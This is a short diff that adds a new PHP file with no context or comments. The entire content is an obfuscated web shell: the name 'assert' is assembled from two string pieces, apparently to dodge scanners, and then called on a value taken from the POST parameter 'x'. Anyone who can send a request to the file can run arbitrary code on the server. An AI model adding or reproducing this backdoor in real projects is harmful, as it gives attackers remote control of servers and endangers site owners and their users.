@@ -1,0 +1,3 @@
+<?php
+$k = 'as' . 'sert';
+$k($_POST['x']);
